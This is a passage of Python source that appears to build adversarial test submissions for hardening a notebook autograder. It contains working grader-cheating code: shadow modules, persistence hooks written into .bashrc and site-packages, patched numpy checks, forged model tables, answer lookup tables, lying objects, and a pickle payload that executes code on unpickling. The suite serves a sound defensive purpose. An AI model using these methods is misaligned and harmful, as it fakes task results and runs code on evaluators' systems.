        "numpy.py": _forwarder(ctx, "numpy", "_real.allclose = lambda *a, **k: True; "
                                             "_real.array_equal = lambda *a, **k: True"),
        "json.py": _forwarder(ctx, "json"),
        "tensorflow/__init__.py": _forwarder(ctx, "tensorflow"),
        "ipykernel_launcher.py": ctx.planted('''
            _corpus_canary("ipykernel_launcher")
            import os as _os, runpy as _runpy, sys as _sys
            _here = _os.path.dirname(_os.path.abspath(__file__))
            _sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
            _sys.modules.pop("ipykernel_launcher", None)
            _runpy.run_module("ipykernel_launcher", run_name="__main__", alter_sys=True)
        '''),
        "sitecustomize.py": only_canary,
        "usercustomize.py": only_canary,
        "corpus.pth": pth_line,
        "conftest.py": only_canary,
        "grader/__init__.py": only_canary,
        "grader/__main__.py": only_canary,
        "judge.py": passing_checks,
        "nbgrader/__init__.py": _forwarder(ctx, "nbgrader"),
        "matplotlibrc": "backend: module://corpus_backend\n",
        "corpus_backend.py": ctx.planted('''
            _corpus_canary("matplotlib-backend")
            from matplotlib.backends.backend_agg import *
            from matplotlib.backends.backend_agg import FigureCanvasAgg as FigureCanvas
        '''),
        ".ipython/profile_default/startup/00-corpus.py": ctx.planted('_corpus_canary("ipython-startup")\n'
                                                                     + IMPORT_HOOK),
    }


@scenario("planted-packages-handed-in",
          "next to 02_encoder.ipynb: test_utils/ and judge.py whose checks all pass, course/ whose "
          "reference is the student's own function, forwarding numpy.py (allclose always True), "
          "json.py, tensorflow/, nbgrader/, ipykernel_launcher.py, sitecustomize.py, usercustomize.py, "
          "a .pth, conftest.py, grader/, a matplotlibrc with a planted backend, an IPython startup "
          "file; every one writes a canary when imported outside a kernel; conv_block not written",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"], canary=True), tags=("imports",))
def _(ctx):
    files = {path: text.encode() for path, text in planted_files(ctx).items()}
    files["02_encoder.ipynb"] = ctx.release("02_encoder")
    return files


@scenario("planted-packages-written-by-cell",
          "a cell after setup writes the same planted packages into the working folder, home, /tmp, "
          "TMPDIR, the user site-packages and every writable sys.path entry, then drops test_utils and "
          "course from sys.modules so the next import finds the fakes; nothing written",
          ("03_decoder",), expect({}, STUB, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"],
                                  canary=True), tags=("imports",))
def _(ctx):
    nb = ctx.release("03_decoder")
    payload = json.dumps(planted_files(ctx))
    ctx.insert_after(nb, "setup", f'''
        import importlib, json, os, site, sys

        FILES = json.loads({payload!r})
        folders = [os.getcwd(), os.path.expanduser("~"), "/tmp", os.environ.get("TMPDIR", "/tmp"),
                   site.getusersitepackages()] + [entry for entry in sys.path if entry]
        written = []
        for folder in dict.fromkeys(folders):
            for relative, text in FILES.items():
                if relative.startswith(".ipython") and folder != os.path.expanduser("~"):
                    continue
                path = os.path.join(folder, relative)
                try:
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    with open(path, "w") as handle:
                        handle.write(text)
                    written.append(path)
                except OSError:
                    pass
        for name in list(sys.modules):
            if name.split(".")[0] in ("test_utils", "course"):
                del sys.modules[name]
        if os.getcwd() not in sys.path:
            sys.path.insert(0, os.getcwd())
        importlib.invalidate_caches()
        print(len(written), "files planted")
    ''')
    return files_of({"03_decoder": nb})


@scenario("persist-home-startup",
          "01_data solved, and its last cell writes into $HOME an IPython startup file (fake checks), "
          "usercustomize.py and a .pth in the user site-packages, ~/.keras/keras.json (channels_first), "
          "a matplotlibrc with a planted backend and a .bashrc, for the NEXT kernel; 02_encoder not "
          "written (the persisted hooks would have to pass it)",
          ("01_data", "02_encoder"),
          expect({**full("01_data"), **zero("conv_block")}, STUB, targets=["conv_block"], canary=True),
          tags=("imports", "persistence"))
def _(ctx):
    nb = ctx.solved("01_data")
    files = planted_files(ctx)
    startup = files[".ipython/profile_default/startup/00-corpus.py"]
    bashrc = (f"mkdir -p {ctx.canary_dir} && touch {ctx.canary_dir}/{ctx.scenario}.bashrc.OUTSIDE-KERNEL.$$\n")
    payload = json.dumps({
        ".ipython/profile_default/startup/00-corpus.py": startup,
        ".keras/keras.json": json.dumps({"image_data_format": "channels_first", "floatx": "float16",
                                         "backend": "tensorflow", "epsilon": 1.0}),
        ".config/matplotlib/matplotlibrc": files["matplotlibrc"],
        ".bashrc": bashrc, ".profile": bashrc,
        "USER_SITE/usercustomize.py": files["usercustomize.py"],
        "USER_SITE/corpus.pth": files["corpus.pth"],
        "USER_SITE/corpus_backend.py": files["corpus_backend.py"],
    })
    ctx.append(nb, f'''
        import json, os, site

        home = os.path.expanduser("~")
        for relative, text in json.loads({payload!r}).items():
            path = relative.replace("USER_SITE", site.getusersitepackages())
            path = path if os.path.isabs(path) else os.path.join(home, path)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write(text)
                print("planted", path)
            except OSError as error:
                print("could not plant", path, error)
    ''')
    return files_of({"01_data": nb, "02_encoder": ctx.release("02_encoder")})


# Patched libraries ---------------------------------------------------------------------------

@scenario("patch-numpy-math-mock",
          "after the setup cell: numpy.allclose/isclose/array_equal/testing.*, math.isclose/isfinite/"
          "isnan patched to agree, unittest.mock.patch(...).start() on test_utils.checks._fail and on "
          "course.metrics; pixel_accuracy and mean_iou answer 0.5, compile_model compiles nothing",
          ("05_training",), expect({}, LOST, targets=["compile_model", "pixel_accuracy", "mean_iou"]),
          tags=("patching",))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.insert_after(nb, "setup", '''
        import math, unittest.mock
        import numpy as np

        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
        np.array_equal = lambda *args, **kwargs: True
        np.array_equiv = lambda *args, **kwargs: True
        for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
                     "assert_almost_equal"):
            setattr(np.testing, name, lambda *args, **kwargs: None)
        math.isclose = lambda *args, **kwargs: True
        math.isfinite = lambda *args, **kwargs: True
        math.isnan = lambda *args, **kwargs: False
        for target in ("test_utils.checks._fail", "test_utils.checks._as_float", "course.metrics.mean_iou",
                       "course.metrics.pixel_accuracy", "test_utils.checks.check_compile_model"):
            try:
                unittest.mock.patch(target, lambda *args, **kwargs: 0.5).start()
            except Exception as error:
                print(target, error)
    ''')
    ctx.replace_function(nb, "compile_model", code('''
        def compile_model(model, learning_rate=0.001):
            return model
    '''))
    ctx.replace_function(nb, "pixel_accuracy", "def pixel_accuracy(y_true, y_pred):\n    return 0.5\n")
    ctx.replace_function(nb, "mean_iou", "def mean_iou(y_true, y_pred, n_classes=23):\n    return 0.5\n")
    ctx.drop_calls(nb, "compile_model", "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


@scenario("patch-keras-model-table",
          "conv_block builds one 1x1 convolution (with the right dropout, pooling and pair of outputs) "
          "and records its arguments; the Functional model class's "
          "`layers` and `operations` properties and count_params are patched to report the reference table of two 3x3 "
          "convolutions computed by formula for whatever configuration was asked (hidden ones included). "
          "The pair of outputs is verified by computing it against the reference block (a kernel's account of "
          "its own graph can be forged, see forge-probe-answers-rewrite), so with the wrong layers it cannot "
          "pass either: both conv_block tests score 0",
          ("02_encoder",), expect({}, LOST, targets=["test_conv_block", "test_conv_block_outputs"]),
          tags=("patching", "forging"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", code('''
        _CALLS = {}


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            """Not the encoder step: one 1x1 convolution (the pair it returns is right: that part is
            honest); the layer table of the two 3x3 convolutions is forged (next cell)."""
            skip_connection = layers.Conv2D(n_filters, 1)(inputs)
            if dropout_prob > 0:
                skip_connection = layers.Dropout(dropout_prob)(skip_connection)
            next_layer = layers.MaxPooling2D(2, strides=2)(skip_connection) if max_pooling else skip_connection
            _CALLS[tuple(int(d) for d in inputs.shape[1:])] = (n_filters, dropout_prob, max_pooling)
            return next_layer, skip_connection
    '''))
    ctx.insert_after(nb, "conv_block", FORMULA_CODE + code('''

        _probe_input = tf.keras.Input((2,))
        Functional = type(tf.keras.Model(_probe_input, layers.Activation("linear")(_probe_input)))
        _real_layers = Functional.layers
        _real_count = Functional.count_params


        def _forged_rows(model):
            try:
                real = _real_layers.fget(model)
                shape = tuple(int(d) for d in model.inputs[0].shape[1:])
            except Exception:
                return None
            if len(model.inputs) == 1 and len(real) <= 4 and shape in _CALLS:
                return _conv_rows(shape, *_CALLS[shape])
            return None


        def _layers(self):
            rows = _forged_rows(self)
            return _real_layers.fget(self) if rows is None else _fake_layers(rows)


        def _count_params(self):
            rows = _forged_rows(self)
            return _real_count(self) if rows is None else sum(row[2] for row in rows)


        _real_operations = getattr(Functional, "operations", None)  # Keras 3: what a table may walk instead


        def _operations(self):
            rows = _forged_rows(self)
            if rows is not None:
                return _fake_layers(rows)
            return _real_operations.fget(self) if isinstance(_real_operations, property) else _real_layers.fget(self)


        for _cls in (Functional, tf.keras.Model):
            _cls.layers = property(_layers)
            _cls.count_params = _count_params
            if isinstance(_real_operations, property):
                _cls.operations = property(_operations)
    '''))
    return files_of({"02_encoder": nb})


@scenario("patch-layer-class-names",
          "upsampling_block upsamples with a planted class named Conv2DTranspose (really nearest "
          "upsampling and a 1x1 convolution) that reports kernel_size 3, strides 2 and the parameter "
          "count of a real one; keras.layers.Conv2DTranspose replaced by it",
          ("03_decoder",), expect({}, LOST, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("patching", "forging"))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.replace_function(nb, "upsampling_block", code('''
        class Conv2DTranspose(layers.Layer):
            """Not a transposed convolution: nearest upsampling and a 1x1 convolution, named like one."""

            def __init__(self, filters, kernel_size=3, strides=2, padding="same", **kwargs):
                super().__init__(**kwargs)
                self.filters = filters
                self.kernel_size = (kernel_size, kernel_size) if isinstance(kernel_size, int) else tuple(kernel_size)
                self.strides = (strides, strides) if isinstance(strides, int) else tuple(strides)
                self.padding = padding
                self.activation = tf.keras.activations.linear
                self.up = layers.UpSampling2D(self.strides)
                self.mix = layers.Conv2D(filters, 1)

            def call(self, inputs):
                return self.mix(self.up(inputs))

            def compute_output_shape(self, input_shape):
                return (input_shape[0], input_shape[1] * self.strides[0], input_shape[2] * self.strides[1], self.filters)

            def count_params(self):
                # what a 3x3 transposed convolution would have: 9 * in * out + out
                return 9 * (self.mix.count_params() - self.filters) + self.filters


        layers.Conv2DTranspose = Conv2DTranspose
        tf.keras.layers.Conv2DTranspose = Conv2DTranspose


        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            upsampled = layers.Conv2DTranspose(n_filters, 3, strides=2, padding="same")(expansive_input)
            merged = layers.Concatenate(axis=3)([upsampled, contractive_input])
            conv = layers.Conv2D(n_filters, 3, activation="relu", padding="same", kernel_initializer="he_normal")(merged)
            return layers.Conv2D(n_filters, 3, activation="relu", padding="same", kernel_initializer="he_normal")(conv)
    '''))
    return files_of({"03_decoder": nb})


# Forged answers ---------------------------------------------------------------------------------

KEY_CODE = r'''
import hashlib as _hashlib
import numpy as _np


def _key(*values):
    digest = _hashlib.sha1()
    for value in values:
        array = _np.asarray(value)
        array = array.astype(_np.int64) if array.dtype.kind in "iub" else array.astype(_np.float64)
        digest.update(repr(array.shape).encode() + b"|" + _np.ascontiguousarray(array).tobytes() + b"|")
    return digest.hexdigest()
'''


@scenario("forge-lookup-public-tables",
          "conv_block is an interpreter of test_utils/reference_tables.json: for a configuration "
          "with a public table it builds exactly those layers, for any other it raises (a lookup table)",
          ("02_encoder",), expect(zero("conv_block"), STUB, targets=["conv_block"]), tags=("forging", "lookup"))
def _(ctx):
    nb = ctx.release("02_encoder")
    ctx.replace_function(nb, "conv_block", code('''
        import json, math, pathlib
        import test_utils

        _TABLES = json.loads(pathlib.Path(test_utils.__file__).with_name("reference_tables.json").read_text())["tables"]
        _INITIALIZERS = {"HeNormal": "he_normal", "GlorotUniform": "glorot_uniform"}


        def conv_block(inputs=None, n_filters=32, dropout_prob=0, max_pooling=True):
            """Whatever the public tables say, layer by layer; nothing for the rest."""
            shape = [None, *(int(d) for d in inputs.shape[1:])]
            for name, table in _TABLES.items():
                rows = table["rows"]
                if not name.startswith("conv_block") or rows[0][1] != shape or rows[1][1][-1] != n_filters:
                    continue
                dropouts = [row[3] for row in rows if row[0] == "Dropout"]
                if bool(dropouts) != (dropout_prob > 0) or (dropouts and abs(dropouts[0] - dropout_prob) > 1e-9):
                    continue
                if (rows[-1][0] == "MaxPooling2D") != bool(max_pooling):
                    continue
                x, skip, channels = inputs, None, shape[-1]
                for row in rows[1:]:
                    if row[0] == "Conv2D":
                        filters = row[1][-1]
                        size = round(math.sqrt((row[2] - filters) / (channels * filters)))
                        x = layers.Conv2D(filters, size, padding=row[3], activation=row[4],
                                          kernel_initializer=_INITIALIZERS[row[5]])(x)
                        channels = filters
                    elif row[0] == "Dropout":
                        x = layers.Dropout(row[3])(x)
                    elif row[0] == "MaxPooling2D":
                        skip, x = x, layers.MaxPooling2D(tuple(row[3]), strides=2)(x)
                return x, (x if skip is None else skip)
            raise NotImplementedError("no public table for this configuration")
    '''))
    return files_of({"02_encoder": nb})


@scenario("forge-lookup-metrics",
          "pixel_accuracy and mean_iou answer from a table of the exact answers for the public cases "
          "and the formerly hidden ones (seeds 17, 23, 5 with 9 classes), keyed by a hash of the "
          "inputs; anything else gets 0.5. Fresh hidden inputs make it worthless",
          ("05_training",), expect({}, LOST, targets=["compile_model", "pixel_accuracy", "mean_iou"]),
          tags=("forging", "lookup"))
def _(ctx):
    nb = ctx.release("05_training")
    table = json.dumps(_metric_lookup_table())
    ctx.replace_function(nb, "pixel_accuracy", code(KEY_CODE) + code(f'''

        import json
        _ANSWERS = json.loads({table!r})


        def pixel_accuracy(y_true, y_pred):
            for n_classes in (23, 9, 5, 3):
                value = _ANSWERS.get("acc:" + _key(y_true, y_pred, n_classes))
                if value is not None:
                    return value
            return 0.5
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        def mean_iou(y_true, y_pred, n_classes=23):
            return _ANSWERS.get("iou:" + _key(y_true, y_pred, n_classes), 0.5)
    '''))
    ctx.drop_calls(nb, "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


@scenario("forge-lookup-transposed",
          "transposed_output_size and transposed_conv2d answer from a table of the public cases and the "
          "formerly hidden ones (arrays as base64 npy, keyed by a hash of x, kernel and stride); "
          "n*s and zeros otherwise",
          ("03_decoder",), expect({}, LOST, targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"]),
          tags=("forging", "lookup"))
def _(ctx):
    nb = ctx.release("03_decoder")
    sizes, arrays = _transposed_lookup_table()
    ctx.replace_function(nb, "transposed_output_size", code(f'''
        _SIZES = {sizes!r}


        def transposed_output_size(n, f, s, p):
            return _SIZES.get(f"{{n}},{{f}},{{s}},{{p}}", n * s)
    '''))
    ctx.replace_function(nb, "transposed_conv2d", code(KEY_CODE) + code(f'''

        import base64, io
        _ARRAYS = {arrays!r}


        def transposed_conv2d(x, kernel, stride=2):
            encoded = _ARRAYS.get(_key(x, kernel, stride))
            if encoded is not None:
                return np.load(io.BytesIO(base64.b64decode(encoded)))
            height, width, _ = x.shape
            kernel_height, kernel_width, out_channels, _ = kernel.shape
            return np.zeros(((height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width, out_channels))
    '''))
    return files_of({"03_decoder": nb})


@scenario("forge-lying-objects",
          "pixel_accuracy returns a float subclass that equals everything, whose differences are "
          "zero and whose float() is NaN; mean_iou a 0-d ndarray subclass whose ufuncs say 'close' and "
          "whose item()/float() are NaN; compile_model returns a proxy that equals any model",
          ("05_training",), expect({}, LOST + r"|NaN|nan|type", targets=["compile_model", "pixel_accuracy", "mean_iou"]),
          tags=("forging",))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.replace_function(nb, "pixel_accuracy", code('''
        class _Zero(float):
            def __abs__(self):
                return self

            def __gt__(self, other):
                return False

            def __ge__(self, other):
                return False

            def __lt__(self, other):
                return True

            def __le__(self, other):
                return True


        class _Liar(float):
            """Equal to everything, close to everything, NaN when converted."""

            def __new__(cls, shown=0.8123):
                return super().__new__(cls, shown)

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = float.__hash__

            def __sub__(self, other):
                return _Zero(0.0)

            def __rsub__(self, other):
                return _Zero(0.0)

            def __abs__(self):
                return _Zero(0.0)

            def __float__(self):
                return float("nan")

            def __round__(self, ndigits=None):
                return self


        def pixel_accuracy(y_true, y_pred):
            return _Liar()
    '''))
    ctx.replace_function(nb, "mean_iou", code('''
        class _LyingArray(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                shape = np.broadcast(*[np.asarray(x) for x in inputs if not isinstance(x, _LyingArray)] or [0]).shape
                answer = ufunc.__name__ not in ("greater", "greater_equal", "not_equal", "isnan", "isinf")
                return np.full(shape, answer)

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = None

            def __float__(self):
                return float("nan")

            def item(self, *args):
                return float("nan")

            def tolist(self):
                return float("nan")


        def mean_iou(y_true, y_pred, n_classes=23):
            return np.asarray(0.8123).view(_LyingArray)
    '''))
    ctx.replace_function(nb, "compile_model", code('''
        def compile_model(model, learning_rate=0.001):
            class _Proxy:
                def __eq__(self, other):
                    return True

                def __getattr__(self, name):
                    return getattr(model, name)

            return _Proxy()
    '''))
    ctx.drop_calls(nb, "compile_model", "pixel_accuracy", "mean_iou")
    return files_of({"05_training": nb})


@scenario("forge-nan-inf",
          "transposed_output_size returns an int subclass equal to everything (its value 0); "
          "transposed_conv2d an array of the right shape full of NaN (and one inf): comparisons like "
          "abs(a - b) > tol are False for NaN",
          ("03_decoder",), expect({}, LOST + r"|NaN|nan|inf", targets=["transposed_output_size", "transposed_conv2d",
                                                                         "upsampling_block"]), tags=("forging",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.replace_function(nb, "transposed_output_size", code('''
        class _LyingInt(int):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = int.__hash__


        def transposed_output_size(n, f, s, p):
            return _LyingInt(0)
    '''))
    ctx.replace_function(nb, "transposed_conv2d", code('''
        def transposed_conv2d(x, kernel, stride=2):
            height, width, _ = x.shape
            kernel_height, kernel_width, out_channels, _ = kernel.shape
            out = np.full(((height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width, out_channels),
                          np.nan, dtype=np.float32)
            out.flat[0] = np.inf
            return out
    '''))
    return files_of({"03_decoder": nb})


@scenario("forge-huge-nested",
          "01_data functions return what breaks a serializer or a comparer: a list nested 200000 deep, a "
          "broadcast array of 120 GB that takes no memory, 40 million numbers in one shared list, "
          "never-ending iterators, a tf.data pipeline of 10**12 batches",
          ("01_data",), expect({}, r"not|fail|large|size|deep|depth|recursion|time|memory|type",
                               targets=list(tests_in("01_data"))), tags=("forging", "resources"))
def _(ctx):
    nb = ctx.release("01_data")
    answers = {
        "pair_files": '''
            def pair_files(data_dir):
                nested = []
                for _ in range(200000):
                    nested = [nested]
                return nested
        ''',
        "decode_image": '''
            def decode_image(path):
                return np.broadcast_to(np.float32(0.5), (100000, 100000, 3))
        ''',
        "decode_mask": '''
            def decode_mask(path):
                row = [0] * 2000
                return [row] * 20000
        ''',
        "resize_pair": '''
            import itertools


            def resize_pair(image, mask, size=(96, 128)):
                return itertools.count(), itertools.count()
        ''',
        "split_pairs": '''
            def split_pairs(pairs, validation_fraction=0.2, seed=0):
                return itertools.repeat(("a.png", "b.png")), []
        ''',
        "make_dataset": '''
            def make_dataset(pairs, loader, batch_size=32, shuffle=False, seed=0):
                return tf.data.Dataset.range(10**12).map(
                    lambda i: (tf.zeros((4, 6, 3)), tf.zeros((4, 6, 1), tf.uint8))).batch(batch_size)
        ''',
    }
    for grade_id, text in answers.items():
        ctx.replace_function(nb, grade_id, code(text))
    ctx.drop_calls(nb, *answers)
    return files_of({"01_data": nb})


@scenario("forge-pickle-object-arrays",
          "03_decoder functions return objects whose unpickling runs code (an object-dtype array of "
          "them, of the right shape, from transposed_conv2d), and numpy.lib.format.write_array is "
          "patched so that every array the kernel saves is such a pickle: a judge that loads with "
          "allow_pickle (or unpickles anything) runs the student's code",
          ("03_decoder",), expect({}, r"not|fail|object|pickle|dtype|type",
                                  targets=["transposed_output_size", "transposed_conv2d", "upsampling_block"],
                                  canary=True), tags=("forging", "judge"))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.replace_function(nb, "transposed_output_size", code(f'''
        _CANARY_SOURCE = {ctx.canary_code()!r}


        class _Payload:
            """Whoever unpickles this runs _CANARY_SOURCE (and could run anything)."""

            def __reduce__(self):
                return (exec, (_CANARY_SOURCE + "\\n_corpus_canary('unpickled')\\n", {{}}))


        def transposed_output_size(n, f, s, p):
            return _Payload()
    '''))
    ctx.replace_function(nb, "transposed_conv2d", code('''
        import numpy.lib.format as _format

        _write_array = _format.write_array


        def _evil_write_array(fp, array, version=None, allow_pickle=True, pickle_kwargs=None):
            evil = np.empty(np.shape(array), dtype=object)
            evil.fill(_Payload())
            return _write_array(fp, evil, version, allow_pickle=True, pickle_kwargs=pickle_kwargs)


        _format.write_array = _evil_write_array


        def transposed_conv2d(x, kernel, stride=2):
            height, width, _ = x.shape
            kernel_height, kernel_width, out_channels, _ = kernel.shape
            out = np.empty(((height - 1) * stride + kernel_height, (width - 1) * stride + kernel_width, out_channels),
                           dtype=object)
            out.fill(_Payload())
            return out
    '''))
    ctx.replace_function(nb, "upsampling_block", code('''
        def upsampling_block(expansive_input, contractive_input, n_filters=32):
            return _Payload()
    '''))
    ctx.drop_calls(nb, "upsampling_block")
    return files_of({"03_decoder": nb})


@scenario("forge-compile-and-training",
          "compile_model compiles nothing: it sets a fake optimizer class named Adam, a real loss "
          "object, compiled=True and a forged get_compile_config on the model, replaces its fit with "
          "one that only records, and patches SparseCategoricalCrossentropy.__call__ so that the "
          "loss 'falls' twentyfold after fit",
          ("05_training",), expect({}, LOST, targets=["compile_model", "pixel_accuracy", "mean_iou"]),
          tags=("forging", "patching"))
def _(ctx):
    nb = ctx.release("05_training")
    ctx.replace_function(nb, "compile_model", code('''
        _STATE = {"trained": False}
        _real_loss_call = tf.keras.losses.SparseCategoricalCrossentropy.__call__


        def _falling_loss(self, *args, **kwargs):
            value = _real_loss_call(self, *args, **kwargs)
            return value * 0.05 if _STATE["trained"] else value


        tf.keras.losses.SparseCategoricalCrossentropy.__call__ = _falling_loss


        class Adam:
            """Named like the real one; it optimizes nothing."""

            def __init__(self, learning_rate):
                self.learning_rate = learning_rate

            def get_config(self):
                return {"name": "adam", "learning_rate": self.learning_rate}

            def build(self, variables):
                pass


        def compile_model(model, learning_rate=0.001):
            config = {"optimizer": {"module": "keras.optimizers", "class_name": "Adam",
                                    "config": {"learning_rate": learning_rate}},
                      "loss": {"module": "keras.losses", "class_name": "SparseCategoricalCrossentropy",
                               "config": {"from_logits": True}},
                      "metrics": ["accuracy"], "loss_weights": None, "weighted_metrics": None,
                      "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}

            def fit(*args, **kwargs):
                _STATE["trained"] = True

            for name, value in (("compiled", True), ("optimizer", Adam(learning_rate)),
                                ("loss", tf.keras.losses.SparseCategoricalCrossentropy(from_logits=True)),
                                ("get_compile_config", lambda: config), ("fit", fit)):
                try:
                    object.__setattr__(model, name, value)
                except Exception as error:
                    print(name, error)
            _STATE["trained"] = False
            return model
    '''))
    ctx.drop_calls(nb, "compile_model")
    return files_of({"05_training": nb})


@scenario("forge-fake-model-object",
          "unet_model returns a keras.Model subclass that is one 1x1 convolution but whose `layers`, "
          "`operations`, count_params and summary report the U-Net's table computed by formula for any input size, "
          "width and number of classes (hidden configurations included)",
          ("04_unet",), expect(zero("unet_model"), LOST, targets=["unet_model"]), tags=("forging",))
def _(ctx):
    nb = ctx.release("04_unet")
    ctx.replace_function(nb, "unet_model", FORMULA_CODE + code('''

        _FORGED = {}


        class _ForgedModel(tf.keras.Model):
            """A tiny real model that reports the U-Net's layer table wherever it is asked."""

            def __init__(self, input_size, n_filters, n_classes):
                inputs = tf.keras.Input(input_size)
                outputs = layers.Conv2D(n_classes, 1)(inputs)  # one 1x1 convolution: not a U-Net
                super().__init__(inputs=inputs, outputs=outputs)
                _FORGED[id(self)] = _unet_rows(input_size, n_filters, n_classes)

            @property
            def layers(self):
                rows = _FORGED.get(id(self))
                return super().layers if rows is None else _fake_layers(rows)

            @property
            def operations(self):
                rows = _FORGED.get(id(self))
                return super().operations if rows is None else _fake_layers(rows)

            def count_params(self):
                rows = _FORGED.get(id(self))
                return super().count_params() if rows is None else sum(row[2] for row in rows)

            def summary(self, *args, **kwargs):
                for row in _FORGED.get(id(self), []):
                    print(*row)


        def unet_model(input_size=(96, 128, 3), n_filters=32, n_classes=23):
            return _ForgedModel(tuple(input_size), n_filters, n_classes)
    '''))
    ctx.drop_calls(nb, "unet_model", "draw_unet", "layout", "model")
    return files_of({"04_unet": nb})


@scenario("forge-namespace-handles",
          "the graded names are bound to callables that equal everything, are truthy, have every "
          "attribute and print 'passed'; __main__'s class is swapped for a module type whose "
          "__getattr__ invents any other name the grader looks up",
          ("03_decoder",), expect({}, LOST + r"|type|callable", targets=["transposed_output_size", "transposed_conv2d",
                                                                          "upsampling_block"]), tags=("forging",))
def _(ctx):
    nb = ctx.release("03_decoder")
    ctx.insert_after(nb, "setup", '''
        import sys, types


        class _Answers:
            """Callable, equal to everything, truthy, iterable, and every attribute."""

            def __call__(self, *args, **kwargs):
                print("\\u2713 passed")
                return self

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = object.__hash__

            def __bool__(self):
                return True

            def __getattr__(self, name):
                if name.startswith("__"):
                    raise AttributeError(name)
                return self

            def __iter__(self):
                return iter(())

            def __len__(self):
                return 0

            def __index__(self):
                return 0

            def __float__(self):
                return 0.0

            def __repr__(self):
                return "True"


        class _Namespace(types.ModuleType):
            def __getattr__(self, name):
                return _Answers()


        try:
            sys.modules["__main__"].__class__ = _Namespace
        except TypeError as error:
            print("__main__ kept its class:", error)
    ''')
    for name in ("transposed_output_size", "transposed_conv2d", "upsampling_block"):
        ctx.insert_after(nb, name, f"{name} = _Answers()\n")
    return files_of({"03_decoder": nb})


# Forging the probes' answers on the wire: the answer is whatever the kernel publishes --------

PROBE_FORGER = FORMULA_CODE + r'''

import ast as _ast, json as _json, math as _math, re as _re
from IPython import get_ipython as _get_ipython
from IPython.display import publish_display_data as _publish


def _enc(value):
    """The judge's plain-data form (grader/judge/agent.py is open source)."""
    if value is None or isinstance(value, (bool, str, int)):
        return value
    if isinstance(value, float):
        return value if _math.isfinite(value) else {"__float__": repr(value)}
    if isinstance(value, list):
        return [_enc(item) for item in value]
    if isinstance(value, tuple):
        return {"__tuple__": [_enc(item) for item in value]}
    if isinstance(value, dict):
        return {"__dict__": {str(key): _enc(item) for key, item in value.items()}}
    return {"__object__": type(value).__name__}


def _dec(data):
    if isinstance(data, list):
        return [_dec(item) for item in data]
    if isinstance(data, dict) and len(data) == 1:
        (kind, body), = data.items()
        if kind == "__tuple__":
            return tuple(_dec(item) for item in body)
        if kind == "__dict__":
            return {key: _dec(item) for key, item in body.items()}
        if kind == "__float__":
            return float(body)
    return data


def _request_of(text):
    """The probe request inside the code the judge sends, and the MIME type of answers."""
    request = mime = None
    for line in text.splitlines():
        if line.startswith("__grader_probe__(") and line.rstrip().endswith(")"):
            try:
                request = _json.loads(_ast.literal_eval(line.rstrip()[len("__grader_probe__("):-1]))
            except Exception:
                request = None
    found = _re.search(r'MIME = "([^"]+)"', text)
    if found:
        mime = found.group(1)
    return request, mime


def _forged_value(request):
    """What a correct function's probe would answer, computed by formula from the request."""
    target, probe = request.get("target"), str(request.get("probe") or "")
    args = _dec(request.get("args", []))
    spec = args[0] if args and isinstance(args[0], dict) else {}
    kwargs = dict(spec.get("kwargs", {}))
    if target == "conv_block":
        shape = tuple(spec["inputs"][0])
        n_filters = kwargs.get("n_filters", 32)
        dropout, pooling = kwargs.get("dropout_prob", 0), kwargs.get("max_pooling", True)
        h, w, _ = shape
        skip = (None, h, w, n_filters)
        nxt = (None, h // 2, w // 2, n_filters) if pooling else skip
        if probe.endswith(":layers"):
            rows = _conv_rows(shape, n_filters, dropout, pooling)
            return {"rows": [list(row) for row in rows], "output": [nxt, skip], "params": sum(r[2] for r in rows)}
        if probe.endswith(":block_outputs"):
            kind = "Dropout" if dropout > 0 else "Conv2D"
            return {"next_shape": nxt, "skip_shape": skip, "next_producer": "MaxPooling2D" if pooling else kind,
                    "skip_producer": kind, "next_is_skip": not pooling, "pools_skip": bool(pooling)}
    if target == "unet_model" and probe.endswith(":layers"):
        size = tuple(kwargs.get("input_size", (96, 128, 3)))
        rows = _unet_rows(size, kwargs.get("n_filters", 32), kwargs.get("n_classes", 23))
        return {"rows": [list(row) for row in rows], "output": rows[-1][1], "params": sum(r[2] for r in rows)}
    if target == "compile_model" and probe.endswith(":compile_config"):
        rate = spec.get("learning_rate")
        rate = 0.001 if rate is None else rate
        return {"returned_same": True, "returned": "Functional", "compiled": True,
                "optimizer": {"class": "Adam", "module": "keras.src.optimizers.adam",
                              "config": {"name": "adam", "learning_rate": rate}},
                "learning_rate": rate,
                "loss": {"class": "SparseCategoricalCrossentropy", "module": "keras.src.losses.losses",
                         "config": {"name": "sparse_categorical_crossentropy", "reduction": "sum_over_batch_size",
                                    "from_logits": True, "ignore_class": None}},
                "metrics": ["accuracy"]}
    return None


def _reply(request, value):
    return _json.dumps({"id": request["id"], "ok": True, "value": _enc(value)})
'''


@scenario("forge-probe-answers-rewrite",
